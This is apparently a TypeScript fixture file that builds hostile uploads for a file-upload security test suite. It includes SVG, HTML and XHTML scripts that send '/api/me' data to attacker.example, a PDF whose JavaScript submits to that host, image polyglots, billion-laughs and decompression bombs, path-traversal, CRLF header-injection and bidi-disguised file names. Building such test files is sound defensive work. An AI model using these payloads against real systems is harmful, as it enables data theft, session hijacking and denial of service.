import { crc32, createDeflate, deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import { buildDocxBomb } from '../process/fixtures.ts';

// Files an attacker would upload, built in code: markup that runs script
// when a browser renders it from our origin, images that are also pages
// or archives, documents that explode when read, and names meant to
// escape a folder, break a header or disguise an extension. The hostile
// suite uploads each one and checks how it is kept and served.

/** The SVG of peer case BUG-09, exactly as the case gives it. */
export const BUG_09_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'pwned\'">\n' +
  "  <script>fetch('/api/me').then(r=>r.text()).then(t=>" +
  "navigator.sendBeacon('https://attacker.example/c',t))</script>\n" +
  '  <rect width="10" height="10"/>\n' +
  '</svg>\n';

/** A page that changes the title and calls out, as the SVG does. */
export const SCRIPTED_HTML =
  '<!DOCTYPE html>\n<html><head><title>page</title></head><body>\n' +
  "<script>document.title='pwned';" +
  "navigator.sendBeacon('https://attacker.example/h','x')</script>\n" +
  '<img src="https://attacker.example/i.png" onerror="document.title=\'pwned\'">\n' +
  '</body></html>\n';

/** The same as XHTML, which browsers run as script-capable XML. */
export const SCRIPTED_XHTML =
  '<?xml version="1.0" encoding="UTF-8"?>\n' +
  '<!DOCTYPE html>\n' +
  '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head>\n' +
  '<body onload="document.title=\'pwned\'"><script>' +
  "navigator.sendBeacon('https://attacker.example/x','x')</script></body></html>\n";

/** How a hostile file is sent: as a form's file part, or as the raw body. */
export type Upload =
  | { via: 'form'; filename: string; type: string }
  | { via: 'raw'; name: string };

export interface HostileFile {
  /** What the test calls it. */
  label: string;
  upload: Upload;
  bytes: Buffer;
  /** The name the server keeps, once cleaned. */
  storedName: string;
  /** The type the server must sniff from the bytes. */
  sniffed: string;
  /**
   * The message a name the server may refuse instead of storing gets,
   * on the `name` field of a 422 VALIDATION_FAILED: the files design
   * first cut and renamed such names, and is moving to refusing them.
   */
  refusal?: string;
}

/** A small real PNG, drawn by the image library. */
export function buildPng(width = 12, height = 8): Promise<Buffer> {
  return sharp({
    create: { width, height, channels: 3, background: '#2266aa' },
  })
    .png()
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A PNG whose header declares `width` by `height` pixels but whose data
 * is a few bytes: decoding it in full would need gigabytes.
 */
export function buildHugeDeclaredPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(64))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A real GIF with a page hidden in a comment extension after its colour
 * table, and another after its trailer: an image to a decoder, a page
 * with script to a browser that sniffs.
 */
export async function buildGifPolyglot(): Promise<Buffer> {
  const gif = await sharp({
    create: { width: 10, height: 10, channels: 3, background: '#aa2200' },
  })
    .gif()
    .toBuffer();
  const flags = gif[10] ?? 0;
  const tableBytes = flags & 0x80 ? 3 * 2 ** ((flags & 7) + 1) : 0;
  const at = 13 + tableBytes;
  const page = Buffer.from(
    "<html><script>document.title='pwned'</script></html>",
  );
  const comment = Buffer.concat([
    Buffer.from([0x21, 0xfe, page.length]),
    page,
    Buffer.from([0]),
  ]);
  return Buffer.concat([
    gif.subarray(0, at),
    comment,
    gif.subarray(at),
    Buffer.from(SCRIPTED_HTML),
  ]);
}

/** A real PNG with a zip holding a page, and a page, after its end. */
export async function buildPngWithZip(): Promise<Buffer> {
  const zip = zipSync({ 'index.html': strToU8(SCRIPTED_HTML) });
  return Buffer.concat([
    await buildPng(),
    Buffer.from(zip),
    Buffer.from(SCRIPTED_HTML),
  ]);
}

/**
 * A one-page PDF that asks its reader to run JavaScript when opened, with
 * a line of text a reader can extract.
 */
export function buildScriptedPdf(words: string): Buffer {
  const stream = `BT /F1 18 Tf 72 720 Td (${words}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R' +
      ' /Names << /JavaScript << /Names [(run) 6 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]' +
      ' /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    "<< /Type /Action /S /JavaScript /JS (app.alert('pwned'); " +
      "this.submitForm('https://attacker.example/p');) >>",
  ];
  let out = '%PDF-1.6\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) {
    out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  }
  out +=
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\n` +
    `startxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** The classic entity expansion: ten to the ninth `lol`s from 1 KB. */
export function buildBillionLaughs(): Buffer {
  let entities = '  <!ENTITY lol0 "lol">\n';
  for (let level = 1; level <= 9; level += 1) {
    const ten = `&lol${level - 1};`.repeat(10);
    entities += `  <!ENTITY lol${level} "${ten}">\n`;
  }
  return Buffer.from(
    '<?xml version="1.0"?>\n' +
      `<!DOCTYPE lolz [\n${entities}]>\n` +
      '<lolz>&lol9;</lolz>\n',
  );
}

/** A docx whose document part declares and uses the billion laughs. */
export function buildLaughingDocx(): Buffer {
  const laughs = buildBillionLaughs()
    .toString()
    .replace('DOCTYPE lolz', 'DOCTYPE w:document')
    .replace(
      '<lolz>&lol9;</lolz>',
      '<w:document xmlns:w="http://schemas.openxmlformats.org/' +
        'wordprocessingml/2006/main"><w:body><w:p><w:r>' +
        '<w:t>Laughing &lol9; stops here</w:t></w:r></w:p></w:body></w:document>',
    );
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8('<?xml version="1.0"?><Types/>'),
      'word/document.xml': strToU8(laughs),
    }),
  );
}

/** Text with a byte order mark, as UTF-16 little-endian. */
export function utf16le(text: string): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from(text, 'utf16le'),
  ]);
}

const HTML = 'text/html';
const SVG = 'image/svg+xml';
const TEXT = 'text/plain';
const OCTETS = 'application/octet-stream';

const form = (filename: string, type: string): Upload => ({
  via: 'form',
  filename,
  type,
});
const raw = (name: string): Upload => ({ via: 'raw', name });

/** The whole hostile set: more than twenty files. */
export async function buildHostileFiles(): Promise<HostileFile[]> {
  const svg = Buffer.from(BUG_09_SVG);
  const html = Buffer.from(SCRIPTED_HTML);
  const png = await buildPng();
  const longName = `${'a'.repeat(996)}.txt`;
  return [
    {
      label: 'BUG-09 SVG',
      upload: form('diagram.svg', SVG),
      bytes: svg,
      storedName: 'diagram.svg',
      sniffed: SVG,
    },
    {
      label: 'the SVG named .png',
      upload: form('diagram.png', 'image/png'),
      bytes: svg,
      storedName: 'diagram.png',
      sniffed: SVG,
    },
    {
      label: 'the SVG named .xml',
      upload: form('diagram.xml', 'application/xml'),
      bytes: svg,
      storedName: 'diagram.xml',
      sniffed: SVG,
    },
    {
      label: 'an HTML page',
      upload: form('page.html', HTML),
      bytes: html,
      storedName: 'page.html',
      sniffed: HTML,
    },
    {
      label: 'an XHTML page',
      upload: form('page.xhtml', 'application/xhtml+xml'),
      bytes: Buffer.from(SCRIPTED_XHTML),
      storedName: 'page.xhtml',
      sniffed: HTML,
    },
    {
      label: 'HTML named .png',
      upload: raw('photo.png'),
      bytes: html,
      storedName: 'photo.png',
      sniffed: HTML,
    },
    {
      label: 'HTML sent as a form part claiming image/png',
      upload: form('claimed.png', 'image/png'),
      bytes: Buffer.from(`<p>hello</p>${SCRIPTED_HTML}`),
      storedName: 'claimed.png',
      sniffed: HTML,
    },
    {
      label: 'a GIF and HTML polyglot',
      upload: form('polyglot.gif', 'image/gif'),
      bytes: await buildGifPolyglot(),
      storedName: 'polyglot.gif',
      sniffed: 'image/gif',
    },
    {
      label: 'a PNG with a zip and a page appended',
      upload: form('appended.png', 'image/png'),
      bytes: await buildPngWithZip(),
      storedName: 'appended.png',
      sniffed: 'image/png',
    },
    {
      label: 'a PDF with JavaScript',
      upload: form('report.pdf', 'application/pdf'),
      bytes: buildScriptedPdf('Kittiwake tally'),
      storedName: 'report.pdf',
      sniffed: 'application/pdf',
    },
    {
      label: 'a docx that is a zip bomb',
      upload: form('bomb.docx', OCTETS),
      bytes: Buffer.from(buildDocxBomb(64)),
      storedName: 'bomb.docx',
      sniffed:
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    },
    {
      label: 'a PDF whose content inflates to 300 MiB',
      upload: form('inflating.pdf', 'application/pdf'),
      bytes: await buildPdfFlateBomb(300),
      storedName: 'inflating.pdf',
      sniffed: 'application/pdf',
    },
    {
      label: 'a billion laughs XML',
      upload: form('laughs.xml', 'text/xml'),
      bytes: buildBillionLaughs(),
      storedName: 'laughs.xml',
      sniffed: 'application/xml',
    },
    {
      label: 'a docx whose text is a billion laughs',
      upload: form('laughs.docx', OCTETS),
      bytes: buildLaughingDocx(),
      storedName: 'laughs.docx',
      sniffed:
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    },
    {
      label: 'plain text with markup past the sniffed head',
      upload: raw('late.txt'),
      bytes: Buffer.from(
        `${'Minutes of the meeting. '.repeat(200)}\n` +
          'Gannetmark <img src=x onerror=alert(1)><script>alert(2)</script>\n',
      ),
      storedName: 'late.txt',
      sniffed: TEXT,
    },
    {
      label: 'a name climbing out with ../',
      upload: raw('../../etc/passwd'),
      bytes: Buffer.from('root:x:0:0:root:/root:/bin/sh\n'),
      storedName: 'passwd',
      sniffed: TEXT,
    },
    {
      label: 'a form name climbing out with ..\\',
      upload: form('..\\..\\x.png', 'image/png'),
      bytes: png,
      storedName: 'x.png',
      sniffed: 'image/png',
    },
    {
      label: 'a name with control characters',
      upload: raw('bad\u0000\u0001\u001b[31mname\u007f\u0085.txt'),
      bytes: Buffer.from('control\n'),
      storedName: 'bad[31mname.txt',
      sniffed: TEXT,
    },
    {
      label: 'a name with a bidi override',
      upload: raw('invoice\u202egpj.exe'),
      bytes: Buffer.from('MZ not really a program'),
      storedName: 'invoicegpj.exe',
      sniffed: TEXT,
    },
    {
      label: 'a 1,000-character name',
      upload: raw(longName),
      bytes: Buffer.from('long\n'),
      storedName: `${'a'.repeat(251)}.txt`,
      sniffed: TEXT,
      refusal: 'File names must be at most 255 bytes: shorten the name',
    },
    {
      label: 'an empty name',
      upload: raw(''),
      bytes: Buffer.from('nameless\n'),
      storedName: 'file',
      sniffed: TEXT,
      refusal: 'Give the file a name',
    },
    {
      label: 'a name with quotes and CRLF',
      upload: raw('report"\r\nSet-Cookie: sid=stolen\r\n\r\n<b>.txt'),
      bytes: Buffer.from('header injection\n'),
      storedName: 'report"Set-Cookie: sid=stolen<b>.txt',
      sniffed: TEXT,
    },
    {
      label: 'a name that is markup',
      upload: raw('<img src=x onerror=alert(1)>.png'),
      bytes: png,
      storedName: '<img src=x onerror=alert(1)>.png',
      sniffed: 'image/png',
    },
    {
      label: 'a PNG declaring 100,000 by 100,000 pixels',
      upload: form('huge.png', 'image/png'),
      bytes: buildHugeDeclaredPng(100_000, 100_000),
      storedName: 'huge.png',
      sniffed: 'image/png',
    },
    {
      label: 'a text file with NULs',
      upload: form('nuls.txt', TEXT),
      bytes: Buffer.from('before\u0000after\u0000<script>x</script>'),
      storedName: 'nuls.txt',
      sniffed: OCTETS,
    },
    {
      label: 'a UTF-16 HTML page',
      upload: form('wide.txt', TEXT),
      bytes: utf16le(SCRIPTED_HTML),
      storedName: 'wide.txt',
      sniffed: HTML,
    },
    {
      label: 'plain text with a script further in',
      upload: form('notes.txt', TEXT),
      bytes: Buffer.from(`Notes for Tuesday.\n\n${SCRIPTED_HTML}`),
      storedName: 'notes.txt',
      sniffed: HTML,
    },
  ];
}

/**
 * A one-page PDF whose content stream is `mebibytes` MiB of spaces
 * squeezed by Flate to about a thousandth of that: small to upload,
 * huge to read. Deflated a mebibyte at a time, so building it holds
 * only the compressed bytes.
 */
export async function buildPdfFlateBomb(mebibytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const compressed: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => compressed.push(chunk));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  const spaces = Buffer.alloc(1024 * 1024, 0x20);
  for (let i = 0; i < mebibytes; i += 1) {
    if (!deflate.write(spaces)) {
      await new Promise((resolve) => deflate.once('drain', resolve));
    }
  }
  deflate.end();
  await ended;
  const data = Buffer.concat(compressed);
  const objects = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    Buffer.from(
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
    ),
    Buffer.concat([
      Buffer.from(
        `<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n`,
      ),
      data,
      Buffer.from('\nendstream'),
    ]),
  ];
  const parts = [Buffer.from('%PDF-1.6\n')];
  let length = parts[0]?.length ?? 0;
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  objects.forEach((body, i) => {
    xref += `${String(length).padStart(10, '0')} 00000 n \n`;
    const part = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      body,
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(part);
    length += part.length;
  });
  xref +=
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\n` +
    `startxref\n${length}\n%%EOF\n`;
  parts.push(Buffer.from(xref));
  return Buffer.concat(parts);
}
